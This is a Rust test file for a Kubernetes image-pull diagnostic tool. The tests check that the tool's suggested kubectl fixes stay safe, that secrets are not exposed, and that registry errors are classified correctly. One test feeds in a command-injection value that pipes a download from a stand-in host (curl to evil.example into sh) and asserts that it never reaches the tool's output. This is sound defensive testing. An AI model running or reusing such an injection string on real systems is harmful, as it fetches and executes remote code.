//! Tests of the advice: no command can harm, and no foreign text can forge one.

use super::{IMAGE, NO_CREDENTIAL, Scene, credential, docker};
use pullgate::kubelet::docker_config::Form;
use pullgate::reports::why::cause::Cause;
use pullgate::reports::why::evidence::{RuleView, SecretState};
use pullgate::reports::why::{Answer, pod};
use serde_json::json;

const HEAD_401: &str = "unexpected status from HEAD request to https://registry.test:5000/v2/payments/app/manifests/1: 401 Unauthorized";

fn opaque() -> SecretState {
    SecretState::OtherType("Opaque".to_owned())
}

/// The API server does not validate the names in `imagePullSecrets`.
#[test]
fn a_name_that_a_tenant_wrote_never_reaches_a_shell_or_forges_a_line() {
    let name = ";curl${IFS}evil.example|sh;\n  run: evil";
    for state in [
        SecretState::Absent,
        opaque(),
        SecretState::OtherType("x\n  run: evil".to_owned()),
    ] {
        let explained = Scene::back_off(NO_CREDENTIAL)
            .listing(name, state)
            .explain();
        assert!(
            explained
                .fix
                .iter()
                .all(|command| !command.contains("evil")),
            "{:?}",
            explained.fix
        );
        assert!(!explained.message.contains('\n'), "{:?}", explained.message);
    }
}

#[test]
fn no_command_deletes_a_secret_that_may_belong_to_an_application() {
    let of_an_application = Scene::back_off(NO_CREDENTIAL)
        .listing("app-db", opaque())
        .explain();
    assert_eq!(of_an_application.cause, Cause::SecretWrongType);
    assert!(
        of_an_application
            .fix
            .iter()
            .all(|command| !command.contains("delete"))
    );
    let rule = RuleView::Secrets {
        rule: "payments".to_owned(),
        all: vec!["payments-pull".to_owned()],
        missing: Vec::new(),
    };
    let of_the_policy = Scene::back_off(NO_CREDENTIAL)
        .listing("payments-pull", opaque())
        .with_rule(rule);
    assert!(of_the_policy.explain().fix[0].contains("delete secret payments-pull"));
}

#[test]
fn a_secret_is_replaced_only_if_nothing_else_is_in_it() {
    let renew = |state| Scene::back_off(HEAD_401).listing("a", state).explain().fix;
    let only = renew(credential("registry.test:5000", "p"));
    assert!(only[0].ends_with("| kubectl replace -f -"), "{only:?}");
    let entry = json!({"username": "joe", "password": "p"});
    let two = json!({"auths": {"registry.test:5000": entry, "ghcr.io": entry}}).to_string();
    let older = json!({"registry.test:5000": entry}).to_string();
    for state in [
        docker(Form::ConfigJson, &two),
        docker(Form::Config, &older),
        credential("registry.test:5000/payments", "p"),
    ] {
        assert_eq!(renew(state), [""; 0]);
    }
}

#[test]
fn a_pod_is_deleted_only_if_it_waits_and_comes_again() {
    let missed = |phase: &str, owners: &serde_json::Value| {
        let rule = RuleView::Secrets {
            rule: "payments".to_owned(),
            all: vec!["payments-pull".to_owned()],
            missing: vec!["payments-pull".to_owned()],
        };
        let mut scene = Scene::back_off(NO_CREDENTIAL).with_rule(rule);
        scene.pod["status"]["phase"] = json!(phase);
        scene.pod["metadata"]["ownerReferences"] = owners.clone();
        scene.explain().fix
    };
    let owned = json!([{"kind": "ReplicaSet", "name": "api", "controller": true}]);
    assert_eq!(
        missed("Pending", &owned),
        ["kubectl -n payments delete pod api"]
    );
    assert_eq!(missed("Running", &owned), [""; 0]);
    assert_eq!(missed("Pending", &json!(null)), [""; 0]);
}

#[test]
fn an_outage_of_the_registry_is_not_a_wrong_password() {
    let good = || credential("registry.test:5000", "p");
    for text in [
        "failed to authorize: failed to fetch oauth token: unexpected status from POST request to https://auth.test/token: 503 Service Unavailable",
        "failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://auth.test/token: 404 Not Found",
        "Requesting bearer token: received unexpected HTTP status: 500 Internal Server Error",
        "unexpected status from HEAD request to https://registry.test:5000/v2/payments/app/manifests/1: 502 Bad Gateway",
    ] {
        let explained = Scene::back_off(text).listing("a", good()).explain();
        assert_eq!(explained.cause, Cause::Network, "{text}");
        assert_eq!(explained.fix, [""; 0]);
    }
    for text in [
        "failed to extract layer sha256:ab: content digest sha256:ab: not found",
        "parent snapshot sha256:ab does not exist: not found",
    ] {
        assert_eq!(Scene::back_off(text).cause(), "runtime", "{text}");
    }
}

/// `az acr login` writes an entry without a password beside an identity token.
#[test]
fn an_entry_without_a_password_is_not_a_secret_that_came_later() {
    let scene = Scene::back_off(NO_CREDENTIAL).listing("a", credential("registry.test:5000", ""));
    let explained = scene.explain();
    assert_eq!(explained.cause, Cause::NoSecret);
    assert!(
        explained.message.contains("no password"),
        "{}",
        explained.message
    );
}

#[test]
fn a_secret_that_was_there_before_the_last_failure_did_not_come_later() {
    let failed = format!("Failed to pull image \"{IMAGE}\": {NO_CREDENTIAL}");
    let with = |changed| {
        let SecretState::Read {
            content,
            is_config_json,
            ..
        } = credential("registry.test:5000", "p")
        else {
            unreachable!("it is read");
        };
        let state = SecretState::Read {
            content,
            is_config_json,
            changed,
        };
        Scene::back_off(NO_CREDENTIAL)
            .listing("a", state)
            .with_event("Failed", &failed, "spec.containers{app}", "1")
            .explain()
    };
    assert_eq!(with(Some(1_700_000_000)).cause, Cause::NodeSide);
    assert_eq!(with(Some(4_000_000_000)).cause, Cause::SecretCameLater);
}

#[test]
fn images_of_a_node_are_compared_by_their_full_names() {
    let on_node = |image: &str, name: &str| {
        let mut scene = Scene::waiting(image, "ErrImageNeverPull", "");
        scene.node_images = Some(vec![name.to_owned()]);
        scene.cause()
    };
    let full = "docker.io/library/nginx:1";
    assert_eq!(on_node("nginx:1", full), "never-pull-no-access");
    assert_eq!(on_node("nginx:2", full), "never-pull-absent");
}

#[test]
fn a_password_in_an_image_is_not_shown() {
    let image = "bob:hunter2@registry.test:5000/x";
    let message = format!(
        "Failed to apply default image tag \"{image}\": couldn't parse image name \"{image}\""
    );
    let explained = Scene::waiting(image, "InvalidImageName", &message).explain();
    assert_eq!(explained.cause, Cause::InvalidName);
    let written = serde_json::to_string(&explained).expect("JSON");
    assert!(!written.contains("hunter2"), "{written}");
}

/// The events of a mirror pod have the uid of the static pod, and it can list no Secret.
#[test]
fn a_static_pod_has_its_events_and_no_commands() {
    let mut scene = Scene::back_off(NO_CREDENTIAL);
    scene.pod["metadata"]["annotations"] = json!({"kubernetes.io/config.mirror": "2"});
    assert_eq!(pod::uid_of_events(&scene.pod), "2");
    assert_eq!(scene.explain().fix, [""; 0]);
}

/// Of a whole cluster only pods that may wait for an image are kept, without the parts that no answer depends on.
#[test]
fn pods_of_a_cluster_are_reduced() {
    let mut scene = Scene::back_off(NO_CREDENTIAL);
    scene.pod["spec"]["containers"][0]["env"] = json!([{"name": "PASSWORD", "value": "x"}]);
    scene.pod["metadata"]["managedFields"] = json!([{"manager": "kubectl"}]);
    let expected = scene.cause();
    assert!(pod::may_wait(&scene.pod));
    scene.pod = pod::reduced(&scene.pod);
    let kept = scene.pod.to_string();
    assert!(
        !kept.contains("PASSWORD") && !kept.contains("managedFields"),
        "{kept}"
    );
    assert_eq!(scene.cause(), expected);
    let crashing = Scene::waiting(IMAGE, "CrashLoopBackOff", "back-off 5m0s restarting");
    assert!(!pod::may_wait(&crashing.pod));
}

#[test]
fn the_text_for_a_person_has_no_line_of_a_tenant() {
    let name = "a\n  run: evil";
    let scene = Scene::back_off(HEAD_401).listing(name, credential("registry.test:5000", "p"));
    let mut answer = Answer::default();
    let explained = scene.explain_pod();
    answer.pods.push(explained);
    let text = answer.text();
    assert!(!text.contains("\n  run: evil"), "{text}");
}
